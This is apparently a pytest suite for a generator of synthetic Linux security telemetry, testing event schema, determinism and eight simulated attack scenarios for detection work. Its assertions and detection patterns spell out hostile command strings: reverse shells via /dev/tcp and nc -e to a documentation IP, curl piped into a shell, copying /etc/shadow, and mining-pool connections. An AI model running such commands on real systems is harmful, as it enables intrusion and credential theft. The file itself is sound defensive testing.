"""Tests of the scenario generator: counts, determinism, the event contract, attack properties."""

from __future__ import annotations

import hashlib
import ipaddress
import json
import math
import os
import re
import subprocess
import sys
from collections import Counter, defaultdict
from collections.abc import Iterable, Sequence
from datetime import UTC, datetime, timedelta
from functools import cache
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest

from agents.scenarios import (
    ATTACKS,
    DEFAULT_START,
    SCENARIOS,
    UnknownScenarioError,
    generate,
    malformed_records,
)
from agents.scenarios.fleet import ADMINS

Event = dict[str, Any]

KINDS = ("proc", "file", "net", "dns", "auth")
# Per kind: field -> expected type; the first fields listed per kind must always be present.
FIELDS: dict[str, dict[str, type]] = {
    "proc": {
        "action": str,
        "pid": int,
        "exe": str,
        "ppid": int,
        "cmdline": str,
        "user": str,
        "uid": int,
        "parent_exe": str,
        "cwd": str,
    },
    "file": {
        "action": str,
        "path": str,
        "new_path": str,
        "pid": int,
        "exe": str,
        "size": int,
        "mode": str,
        "sha256": str,
    },
    "net": {
        "action": str,
        "proto": str,
        "dst_ip": str,
        "dst_port": int,
        "src_ip": str,
        "src_port": int,
        "pid": int,
        "exe": str,
        "bytes_in": int,
        "bytes_out": int,
        "packets": int,
    },
    "dns": {
        "query": str,
        "qtype": str,
        "rcode": str,
        "answers": list,
        "pid": int,
        "exe": str,
        "server": str,
    },
    "auth": {"action": str, "user": str, "src_ip": str, "method": str},
}
CORE = {"proc": 3, "file": 2, "net": 4, "dns": 2, "auth": 2}
ACTIONS = {
    "proc": {"exec", "exit"},
    "file": {"create", "modify", "delete", "rename", "chmod"},
    "net": {"connect", "accept", "flow"},
    "auth": {"login", "failure", "sudo", "logout"},
}
TS = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$")
ULID = re.compile(r"^[0-7][0-9A-HJKMNP-TV-Z]{25}$")
CROCKFORD = "0123456789ABCDEFGHJKMNPQRSTVWXYZ"
TECHNIQUE = re.compile(r"^T\d{4}(\.\d{3})?$")

BAD_NETS = (ipaddress.ip_network("203.0.113.0/24"), ipaddress.ip_network("198.51.100.0/24"))
MINING_PORTS = {3333, 4444, 5555, 7777, 14444, 45700}
WEB_SERVERS = {"/usr/sbin/nginx", "/usr/sbin/apache2", "/usr/sbin/httpd"}
SHELLS = {"/bin/sh", "/bin/bash", "/bin/dash", "/usr/bin/zsh", "/usr/bin/bash", "/usr/bin/sh"}
CURL_PIPE_SHELL = re.compile(r"\b(curl|wget)\b[^|;&]*\|\s*(sudo\s+)?(ba|da|z)?sh\b")


@cache
def events(scenario: str, count: int = 20_000, seed: int = 0) -> tuple[Event, ...]:
    return tuple(generate(scenario, count, seed=seed))


def attack_events(scenario: str, name: str | None = None) -> list[Event]:
    name = name or scenario
    return [e for e in events(scenario) if e["labels"]["scenario"] == name]


def body(event: Event) -> dict[str, Any]:
    fields: dict[str, Any] = event[event["kind"]]
    return fields


def when(event: Event) -> datetime:
    return datetime.fromisoformat(event["ts"])


def entropy(text: str) -> float:
    counts = Counter(text)
    return -sum(n / len(text) * math.log2(n / len(text)) for n in counts.values())


def max_in_window(times: Sequence[datetime], seconds: float) -> int:
    """The most of `times` (sorted) that fall within any window of `seconds`."""
    best, lo = 0, 0
    for hi, t in enumerate(times):
        while (t - times[lo]).total_seconds() > seconds:
            lo += 1
        best = max(best, hi - lo + 1)
    return best


def contract_violations(obj: Any) -> list[str]:
    """What makes `obj` not a `sentinel.event/1` event (the test's own reading of the contract)."""
    if not isinstance(obj, dict):
        return ["not an object"]
    problems = []
    if obj.get("schema") != "sentinel.event/1":
        problems.append("schema")
    if not isinstance(obj.get("id"), str) or not obj["id"]:
        problems.append("id")
    ts = obj.get("ts")
    try:
        if not isinstance(ts, str) or not TS.match(ts) or datetime.fromisoformat(ts).utcoffset():
            problems.append("ts")
    except ValueError:
        problems.append("ts")
    host = obj.get("host")
    if not isinstance(host, dict) or not isinstance(host.get("id"), str):
        problems.append("host.id")
    kind = obj.get("kind")
    if kind not in KINDS:
        return [*problems, "kind"]
    fields = obj.get(kind)
    if not isinstance(fields, dict):
        return [*problems, f"{kind} object"]
    for i, (name, typ) in enumerate(FIELDS[kind].items()):
        if name not in fields:
            if i < CORE[kind]:
                problems.append(f"{kind}.{name} missing")
        elif not isinstance(fields[name], typ) or isinstance(fields[name], bool):
            problems.append(f"{kind}.{name} type")
    if kind in ACTIONS and fields.get("action") not in ACTIONS[kind]:
        problems.append(f"{kind}.action")
    if kind == "dns" and not all(isinstance(a, str) for a in fields.get("answers", [])):
        problems.append("dns.answers items")
    if kind == "net" and fields.get("proto") not in ("tcp", "udp"):
        problems.append("net.proto")
    return problems


def benign_violations(stream: Iterable[Event]) -> list[str]:
    """Everything in `stream` that a detection rule could fairly call suspicious."""
    found: list[str] = []
    failures: dict[str, list[datetime]] = defaultdict(list)
    failures_on: dict[str, list[datetime]] = defaultdict(list)
    renames: dict[tuple[str, int], list[datetime]] = defaultdict(list)
    admins = {u.name for u in ADMINS}
    for e in stream:
        kind, obj = e["kind"], body(e)
        where = f"{e['ts']} {e['host']['name']} {kind} {obj}"
        exe = obj.get("exe", "")
        if exe.startswith(("/tmp/", "/dev/shm/", "/var/tmp/")):
            found.append(f"executable in a temp dir: {where}")
        text = json.dumps(obj)
        if "/etc/shadow" in text:
            found.append(f"touches /etc/shadow: {where}")
        if kind == "proc":
            cmd = obj.get("cmdline", "")
            if obj.get("parent_exe") in WEB_SERVERS and obj["action"] == "exec":
                found.append(f"web server spawned a process: {where}")
            if CURL_PIPE_SHELL.search(cmd):
                found.append(f"curl piped into a shell: {where}")
            if "/dev/tcp/" in cmd or "nc -e" in cmd or exe.endswith(("/crontab", "/unshadow")):
                found.append(f"suspicious command: {where}")
            if "stratum+tcp" in cmd:
                found.append(f"mining pool: {where}")
        if kind == "file":
            for path in (obj["path"], obj.get("new_path", "")):
                if path.startswith(("/etc/cron", "/var/spool/cron")):
                    found.append(f"cron write: {where}")
                if path.endswith(".locked"):
                    found.append(f"ransom rename: {where}")
            if obj["action"] == "rename":
                renames[(e["host"]["id"], obj["pid"])].append(when(e))
        if kind == "net" and (
            obj["dst_port"] in MINING_PORTS or obj.get("src_port") in MINING_PORTS
        ):
            found.append(f"mining pool port: {where}")
        ips = [obj.get("src_ip"), obj.get("dst_ip"), obj.get("server")]
        if obj.get("qtype") in ("A", "AAAA"):
            ips += obj["answers"]
        for ip in filter(None, ips):
            if any(ipaddress.ip_address(ip) in net for net in BAD_NETS):
                found.append(f"reserved bad address {ip}: {where}")
        if kind == "dns":
            labels = obj["query"].split(".")
            if obj["query"].endswith(".example") or any(
                len(label) > 30 or entropy(label) > 3.5 for label in labels
            ):
                found.append(f"odd domain: {where}")
        if kind == "auth":
            if obj["action"] == "failure":
                failures[obj.get("src_ip", "")].append(when(e))
                failures_on[e["host"]["id"]].append(when(e))
            if obj["action"] == "sudo" and obj["user"] not in admins:
                found.append(f"sudo by a non-admin: {where}")
    for ip, times in failures.items():
        if max_in_window(times, 120) >= 5:
            found.append(f"burst of auth failures from {ip}")
    for host, times in failures_on.items():
        if max_in_window(times, 120) >= 10:
            found.append(f"burst of auth failures on {host}")
    for (host, pid), times in renames.items():
        if max_in_window(times, 30) >= 20:
            found.append(f"mass renames by pid {pid} on {host}")
    return found


# --- the API surface ---------------------------------------------------------------------------


def test_scenarios_are_baseline_then_the_eight_attacks_then_mixed() -> None:
    assert ATTACKS == (
        "curl-pipe-shell",
        "reverse-shell",
        "dns-tunnel",
        "ssh-bruteforce",
        "ransomware-writes",
        "crypto-miner",
        "cred-access",
        "persistence-cron",
    )
    assert ("baseline", *ATTACKS, "mixed") == SCENARIOS
    assert datetime(2026, 12, 1, tzinfo=UTC) == DEFAULT_START


def test_unknown_scenario_is_rejected_with_the_valid_names() -> None:
    with pytest.raises(UnknownScenarioError) as caught:
        generate("port-scan", 10)
    assert isinstance(caught.value, ValueError)
    for name in SCENARIOS:
        assert name in str(caught.value)


@pytest.mark.parametrize(
    ("kwargs", "field"),
    [
        ({"count": -1}, "count"),
        ({"count": 10, "hosts": 0}, "hosts"),
        ({"count": 10, "events_per_second": 0}, "events_per_second"),
        ({"count": 10, "events_per_second": math.inf}, "events_per_second"),
        ({"count": 10, "start": datetime(2026, 12, 1)}, "start"),
    ],
)
def test_bad_arguments_are_rejected_before_the_first_event(
    kwargs: dict[str, Any], field: str
) -> None:
    with pytest.raises(ValueError, match=field):
        generate("baseline", **kwargs)


# --- counts, determinism, time -----------------------------------------------------------------


@pytest.mark.parametrize("scenario", SCENARIOS)
@pytest.mark.parametrize("count", [0, 1, 7, 3_001])
def test_generate_yields_exactly_count_events(scenario: str, count: int) -> None:
    assert sum(1 for _ in generate(scenario, count)) == count


@pytest.mark.parametrize("scenario", ["baseline", "mixed", "ransomware-writes"])
def test_same_arguments_give_byte_identical_output(scenario: str) -> None:
    def dump(seed: int) -> list[str]:
        return [json.dumps(e, sort_keys=True) for e in generate(scenario, 6_000, seed=seed)]

    first = dump(7)
    assert first == dump(7)
    assert first != dump(8)


def test_output_does_not_depend_on_the_interpreter_hash_seed() -> None:
    script = (
        "import hashlib, json\n"
        "from agents.scenarios import generate\n"
        "m = hashlib.sha256()\n"
        "for e in generate('mixed', 3000, seed=11):\n"
        "    m.update(json.dumps(e, sort_keys=True).encode())\n"
        "print(m.hexdigest())\n"
    )
    root = Path(__file__).resolve().parents[2]
    digests = {
        subprocess.run(
            [sys.executable, "-c", script],
            cwd=root,
            env={**os.environ, "PYTHONHASHSEED": hash_seed, "PYTHONPATH": str(root)},
            capture_output=True,
            text=True,
            check=True,
        ).stdout.strip()
        for hash_seed in ("1", "2")
    }
    here = hashlib.sha256()
    for e in generate("mixed", 3000, seed=11):
        here.update(json.dumps(e, sort_keys=True).encode())
    assert digests == {here.hexdigest()}


def test_different_seeds_differ_event_by_event() -> None:
    a, b = events("mixed", 2_000, 1), events("mixed", 2_000, 2)
    assert sum(x["id"] == y["id"] for x, y in zip(a, b, strict=True)) == 0
    assert [x["host"] for x in a] != [y["host"] for y in b]


@pytest.mark.parametrize("scenario", ["baseline", "mixed", "ssh-bruteforce"])
def test_timestamps_are_non_decreasing_and_span_count_over_rate(scenario: str) -> None:
    stream = events(scenario)
    times = [when(e) for e in stream]
    assert all(a <= b for a, b in pairwise(times))
    assert times[0] == DEFAULT_START
    # 20,000 events at 200 events/s is 100 s of event time; attack events take a few slots.
    assert 85 <= (times[-1] - times[0]).total_seconds() <= 105


def test_start_and_rate_move_and_stretch_the_time_axis() -> None:
    start = datetime(2027, 3, 4, 5, 6, 7, 890_000, tzinfo=UTC)
    stream = list(generate("mixed", 10_000, start=start, events_per_second=50.0))
    first, last = when(stream[0]), when(stream[-1])
    assert first >= start
    assert first - start < timedelta(milliseconds=100)
    assert 185 <= (last - first).total_seconds() <= 205
    assert all(a["ts"] <= b["ts"] for a, b in pairwise(stream))


def test_timestamps_are_utc_with_microseconds_and_a_z() -> None:
    for e in events("mixed"):
        assert TS.match(e["ts"]), e["ts"]


def test_ids_are_unique_ulids_carrying_the_event_millisecond() -> None:
    stream = events("mixed")
    assert len({e["id"] for e in stream}) == len(stream)
    for e in stream:
        assert ULID.match(e["id"]), e["id"]
        ms = 0
        for char in e["id"][:10]:
            ms = ms * 32 + CROCKFORD.index(char)
        ts = when(e)
        assert ms == int(ts.timestamp()) * 1000 + ts.microsecond // 1000


# --- the event contract ------------------------------------------------------------------------


@pytest.mark.parametrize("scenario", SCENARIOS)
def test_every_event_follows_the_event_contract(scenario: str) -> None:
    for e in events(scenario, 5_000):
        assert contract_violations(e) == [], e
        assert e["host"]["os"] == "linux"
        assert re.fullmatch(r"h-\d{3,}", e["host"]["id"])
        assert e["sensor"]["version"] == "0.1.0"
        assert None not in body(e).values()


def test_small_fleets_still_produce_every_scenario() -> None:
    for hosts in (1, 2, 3):
        for scenario in SCENARIOS:
            stream = list(generate(scenario, 4_000, hosts=hosts, seed=hosts))
            assert len(stream) == 4_000
            assert len({e["host"]["id"] for e in stream}) == hosts
            assert all(contract_violations(e) == [] for e in stream)
            if scenario != "baseline":
                assert any(e["labels"]["attack"] for e in stream), (scenario, hosts)


# --- baseline ----------------------------------------------------------------------------------


def test_baseline_has_every_kind_with_auth_the_rarest() -> None:
    kinds = Counter(e["kind"] for e in events("baseline", 50_000))
    assert set(kinds) == set(KINDS)
    assert all(kinds[k] > kinds["auth"] for k in ("proc", "file", "net", "dns"))
    assert kinds["auth"] >= 200


def test_baseline_fleet_has_every_role_across_the_requested_hosts() -> None:
    stream = events("baseline", 50_000)
    hosts = {e["host"]["id"]: e["host"]["name"] for e in stream}
    assert len(hosts) == 20
    roles = Counter(name.rsplit("-", 1)[0] for name in hosts.values())
    assert set(roles) == {"web", "db", "dev", "build", "bastion"}
    assert roles["bastion"] == 1
    assert len(set(hosts.values())) == 20


def test_baseline_does_normal_work() -> None:
    stream = events("baseline", 50_000)
    procs = [body(e) for e in stream if e["kind"] == "proc" and body(e)["action"] == "exec"]
    exes = {p["exe"].rsplit("/", 1)[1] for p in procs}
    assert {"ls", "grep", "git", "vim.basic", "python3.11", "ssh", "apt-get", "dpkg"} <= exes
    assert any(p["parent_exe"] == "/usr/sbin/cron" for p in procs)
    assert any("logrotate" in p["exe"] for p in procs)
    accepts = [body(e) for e in stream if e["kind"] == "net" and body(e)["action"] == "accept"]
    assert {443, 80} <= {a["dst_port"] for a in accepts if a["exe"] in WEB_SERVERS}
    queries = {body(e)["query"] for e in stream if e["kind"] == "dns"}
    assert {"deb.debian.org", "api.github.com", "pypi.org", "db-1.corp.internal"} <= queries
    auth = Counter(body(e)["action"] for e in stream if e["kind"] == "auth")
    assert set(auth) == {"login", "logout", "failure", "sudo"}
    assert auth["failure"] < auth["login"] / 10
    logins = [body(e) for e in stream if e["kind"] == "auth" and body(e)["action"] == "login"]
    assert all(
        ipaddress.ip_address(a["src_ip"]) in ipaddress.ip_network("10.0.0.0/8") for a in logins
    )
    paths = [body(e)["path"] for e in stream if e["kind"] == "file"]
    assert any(p.startswith("/var/log/") for p in paths)
    assert any(p.startswith("/home/") and p.endswith(".py") for p in paths)
    assert any(p.startswith("/tmp/") for p in paths)


def test_baseline_is_labelled_benign_without_technique() -> None:
    for e in events("baseline"):
        assert e["labels"] == {"scenario": "baseline", "attack": False}


def test_baseline_never_looks_like_an_attack() -> None:
    assert benign_violations(events("baseline", 50_000)) == []


def test_baseline_of_other_seeds_and_fleet_sizes_stays_benign() -> None:
    assert benign_violations(generate("baseline", 20_000, seed=99, hosts=60)) == []
    assert benign_violations(generate("baseline", 20_000, seed=5, hosts=3)) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_benign_check_flags_every_attack(attack: str) -> None:
    assert benign_violations(attack_events(attack)) != []


# --- attack scenarios --------------------------------------------------------------------------


@pytest.mark.parametrize("scenario", ATTACKS)
def test_attack_scenarios_label_their_events_with_their_own_name(scenario: str) -> None:
    stream = events(scenario)
    labels = Counter(e["labels"]["scenario"] for e in stream)
    assert set(labels) == {"baseline", scenario}
    assert labels[scenario] >= 10
    for e in stream:
        if e["labels"]["scenario"] == scenario:
            assert e["labels"]["attack"] is True
            assert TECHNIQUE.match(e["labels"]["technique"])
        else:
            assert e["labels"] == {"scenario": "baseline", "attack": False}


@pytest.mark.parametrize("scenario", ATTACKS)
def test_attack_episodes_happen_on_one_victim_host_each(scenario: str) -> None:
    # 20,000 events: one episode plus one per 5,000 events, each on a single host.
    hosts = {e["host"]["id"] for e in attack_events(scenario)}
    assert 1 <= len(hosts) <= 5


def test_one_episode_per_5000_events_plus_one() -> None:
    reads = [
        e
        for e in events("cred-access")
        if e["kind"] == "proc" and body(e).get("cmdline") == "cat /etc/shadow"
    ]
    assert len(reads) == 5


def test_a_run_too_short_for_an_episode_truncates_it_but_keeps_the_count() -> None:
    stream = list(generate("ransomware-writes", 60))
    assert len(stream) == 60
    attack = [e for e in stream if e["labels"]["attack"]]
    assert 0 < len(attack) < 200
    assert all(a["ts"] <= b["ts"] for a, b in pairwise(stream))


def test_curl_pipe_shell_pipes_a_download_from_a_bad_host_into_bash() -> None:
    stream = attack_events("curl-pipe-shell")
    assert {e["labels"]["technique"] for e in stream} == {"T1059.004"}
    execs = [body(e) for e in stream if e["kind"] == "proc" and body(e)["action"] == "exec"]
    pipeline = [p for p in execs if CURL_PIPE_SHELL.search(p["cmdline"])]
    assert pipeline
    assert all(p["parent_exe"] in SHELLS for p in pipeline)
    curls = {p["pid"]: p for p in execs if p["exe"] == "/usr/bin/curl"}
    assert any(
        "http://203.0.113.7/" in c["cmdline"] and c["parent_exe"] in SHELLS for c in curls.values()
    )
    bash = [p for p in execs if p["exe"] == "/bin/bash" and p["cmdline"] == "bash"]
    assert {b["ppid"] for b in bash} <= {p["pid"] for p in pipeline}
    connects = [body(e) for e in stream if e["kind"] == "net" and body(e)["action"] == "connect"]
    assert any(
        c["dst_ip"] == "203.0.113.7" and c["dst_port"] == 80 and c["pid"] in curls for c in connects
    )
    assert any(e["kind"] == "dns" and "203.0.113.7" in body(e)["answers"] for e in stream)


def test_reverse_shell_is_spawned_by_a_web_server_and_calls_back() -> None:
    stream = attack_events("reverse-shell")
    execs = [body(e) for e in stream if e["kind"] == "proc" and body(e)["action"] == "exec"]
    spawned = [p for p in execs if p["parent_exe"] in WEB_SERVERS]
    assert spawned
    for p in spawned:
        assert p["exe"] in SHELLS
        assert p["user"] == "www-data" and p["uid"] == 33
        assert (
            "/dev/tcp/198.51.100.23/4444" in p["cmdline"]
            or "nc -e /bin/sh 198.51.100.23 4444" in p["cmdline"]
        )
    pids = {p["pid"] for p in execs}
    connects = [body(e) for e in stream if e["kind"] == "net" and body(e)["action"] == "connect"]
    assert any(
        (c["dst_ip"], c["dst_port"], c["pid"] in pids) == ("198.51.100.23", 4444, True)
        for c in connects
    )
    assert {e["labels"]["technique"] for e in stream} >= {"T1059.004", "T1071"}


def test_dns_tunnel_bursts_high_entropy_txt_queries_under_one_domain() -> None:
    stream = attack_events("dns-tunnel")
    by_zone: dict[str, list[Event]] = defaultdict(list)
    for e in stream:
        if e["kind"] == "dns" and body(e)["qtype"] == "TXT":
            by_zone[body(e)["query"].split(".", 1)[1]].append(e)
    assert list(by_zone) == ["t.exfil-tunnel.example"]
    queries = by_zone["t.exfil-tunnel.example"]
    assert max_in_window([when(e) for e in queries], 60) >= 40
    labels = [body(e)["query"].split(".", 1)[0] for e in queries]
    assert sum(entropy(label) for label in labels) / len(labels) > 3.5
    assert min(len(label) for label in labels) >= 40
    assert len(set(labels)) == len(labels)
    assert {e["labels"]["technique"] for e in queries} == {"T1071.004"}


def test_ssh_bruteforce_fails_30_times_from_one_ip_within_two_minutes_then_logs_in() -> None:
    stream = [e for e in attack_events("ssh-bruteforce") if e["kind"] == "auth"]
    failures: dict[str, list[Event]] = defaultdict(list)
    for e in stream:
        if body(e)["action"] == "failure":
            failures[body(e)["src_ip"]].append(e)
    logins = {body(e)["src_ip"]: e for e in stream if body(e)["action"] == "login"}
    assert logins
    for ip, login in logins.items():
        tries = [e for e in failures[ip] if when(e) < when(login)]
        assert ipaddress.ip_address(ip) in BAD_NETS[1]
        assert max_in_window([when(e) for e in tries], 120) >= 30
        assert all(body(e)["method"] == "password" for e in tries)
        assert len({body(e)["user"] for e in tries}) >= 5
        assert body(login)["method"] == "password"
    assert {e["labels"]["technique"] for e in stream} == {"T1110.001"}


def test_ransomware_renames_100_files_to_locked_within_30_seconds() -> None:
    stream = attack_events("ransomware-writes")
    renames: dict[int, list[Event]] = defaultdict(list)
    for e in stream:
        if e["kind"] == "file" and body(e)["action"] == "rename":
            assert body(e)["new_path"] == body(e)["path"] + ".locked"
            renames[body(e)["pid"]].append(e)
    pid, moved = max(renames.items(), key=lambda item: len(item[1]))
    assert max_in_window([when(e) for e in moved], 30) >= 100
    assert {body(e)["exe"] for e in moved} == {body(moved[0])["exe"]}
    assert body(moved[0])["exe"].startswith("/tmp/.cache/")
    assert all(body(e)["path"].startswith("/home/") for e in moved)
    modified = [e for e in stream if e["kind"] == "file" and body(e)["action"] == "modify"]
    assert len([e for e in modified if body(e)["pid"] == pid]) >= 100
    notes = [e for e in stream if e["kind"] == "file" and body(e)["action"] == "create"]
    assert any("README_RESTORE_FILES" in body(e)["path"] for e in notes)
    assert {e["labels"]["technique"] for e in stream} == {"T1486"}


def test_crypto_miner_runs_from_a_temp_dir_and_joins_a_pool() -> None:
    stream = attack_events("crypto-miner")
    miners = [
        body(e)
        for e in stream
        if e["kind"] == "proc"
        and body(e)["action"] == "exec"
        and body(e)["exe"] in ("/tmp/.x/xmrig", "/dev/shm/kdevtmpfsi")
    ]
    assert miners
    assert all("-o stratum+tcp://pool.minexmr.example:" in m["cmdline"] for m in miners)
    pids = {m["pid"] for m in miners}
    assert any(e["kind"] == "dns" and body(e)["query"] == "pool.minexmr.example" for e in stream)
    pool = [
        body(e)
        for e in stream
        if e["kind"] == "net" and body(e)["action"] == "connect" and body(e)["pid"] in pids
    ]
    assert pool and all(c["dst_port"] in (3333, 4444) for c in pool)
    assert {e["labels"]["technique"] for e in stream} == {"T1496"}


def test_cred_access_reads_and_copies_shadow_as_a_non_root_user() -> None:
    stream = attack_events("cred-access")
    execs = [body(e) for e in stream if e["kind"] == "proc" and body(e)["action"] == "exec"]
    assert any(p["cmdline"] == "cat /etc/shadow" and p["uid"] != 0 for p in execs)
    assert any(p["cmdline"] == "sudo cp /etc/shadow /tmp/.s" and p["uid"] != 0 for p in execs)
    assert any(p["exe"].endswith("/unshadow") for p in execs)
    assert any(e["kind"] == "file" and body(e)["path"] == "/tmp/.s" for e in stream)
    sudo = [body(e)["user"] for e in stream if e["kind"] == "auth" and body(e)["action"] == "sudo"]
    assert sudo and not set(sudo) & {u.name for u in ADMINS}
    assert {e["labels"]["technique"] for e in stream} == {"T1003.008"}


def test_persistence_cron_writes_a_crontab_that_fetches_a_script() -> None:
    stream = attack_events("persistence-cron")
    cron_paths = [
        p
        for e in stream
        if e["kind"] == "file"
        for p in (body(e)["path"], body(e).get("new_path", ""))
        if p == "/etc/crontab" or p.startswith(("/etc/cron.d/", "/var/spool/cron/crontabs/"))
    ]
    assert cron_paths
    cmds = [body(e)["cmdline"] for e in stream if e["kind"] == "proc" and "cmdline" in body(e)]
    assert any("* * * * *" in c and CURL_PIPE_SHELL.search(c) for c in cmds)
    # Different seeds pick different persistence spots (user crontab, /etc/crontab, /etc/cron.d).
    spots = set()
    for seed in range(12):
        for e in generate("persistence-cron", 6_000, seed=seed):
            if e["kind"] == "file" and e["labels"]["attack"]:
                path = body(e).get("new_path") or body(e)["path"]
                spots.add(path.rsplit("/", 1)[0])
    assert {"/etc", "/etc/cron.d", "/var/spool/cron/crontabs"} <= spots
    assert {e["labels"]["technique"] for e in stream} == {"T1053.003"}


def test_mixed_contains_all_eight_attacks_each_labelled_with_its_own_name() -> None:
    stream = events("mixed")
    by_name = Counter(e["labels"]["scenario"] for e in stream if e["labels"]["attack"])
    assert set(by_name) == set(ATTACKS)
    benign = [e for e in stream if not e["labels"]["attack"]]
    assert all(e["labels"]["scenario"] == "baseline" for e in benign)
    assert len(benign) > 0.9 * len(stream)
    for name in ATTACKS:
        own = [e for e in stream if e["labels"]["scenario"] == name]
        assert benign_violations(own), name


def test_mixed_even_at_a_small_count_has_every_attack() -> None:
    stream = list(generate("mixed", 5_000))
    assert {e["labels"]["scenario"] for e in stream if e["labels"]["attack"]} == set(ATTACKS)


# --- malformed records -------------------------------------------------------------------------


def rejection(raw: bytes) -> str:
    """Why a validator must reject `raw` ('' when it is a valid event)."""
    try:
        obj = json.loads(raw)
    except ValueError:  # includes UnicodeDecodeError
        return "not json"
    return ", ".join(contract_violations(obj))


def test_malformed_records_are_each_rejected_for_one_reason() -> None:
    records = malformed_records(50)
    assert len(records) == 50
    reasons = [rejection(r) for r in records]
    assert all(reasons), [r for r, why in zip(records, reasons, strict=True) if not why]
    # Ten flaws; two each read as "not json" (truncated, garbage) and "not an object".
    assert set(reasons) == {
        "not json",
        "not an object",
        "host.id",
        "schema",
        "kind",
        "proc object",
        "proc.pid type",
        "ts",
    }
    assert Counter(reasons[:10]) == Counter(
        {"not json": 2, "not an object": 2}
        | {r: 1 for r in set(reasons) - {"not json", "not an object"}}
    )


def test_malformed_records_are_distinct_and_deterministic() -> None:
    records = malformed_records(200, seed=3)
    assert len(set(records)) == 200
    assert records == malformed_records(200, seed=3)
    assert records != malformed_records(200, seed=4)
    assert malformed_records(0) == []
    assert all(isinstance(r, bytes) for r in records)
    # Each record must survive a JSON Lines file: one line apiece.
    assert not [r for r in malformed_records(2_000) if b"\n" in r or b"\r" in r]


def test_generated_events_pass_the_same_check_that_rejects_malformed_records() -> None:
    for e in events("mixed", 5_000):
        assert rejection(json.dumps(e).encode()) == ""


# --- the JSON Schema contract (contracts/event.schema.json) ------------------------------------


def test_every_event_of_a_mixed_run_satisfies_the_event_schema() -> None:
    from sentinel.contracts import validate

    for e in events("mixed"):
        validate("event", e)


def test_malformed_records_are_rejected_by_the_event_schema() -> None:
    from sentinel.contracts import validate

    for raw in malformed_records(40, seed=2):
        try:
            obj = json.loads(raw)
        except ValueError:
            continue
        with pytest.raises(ValueError):
            validate("event", obj)
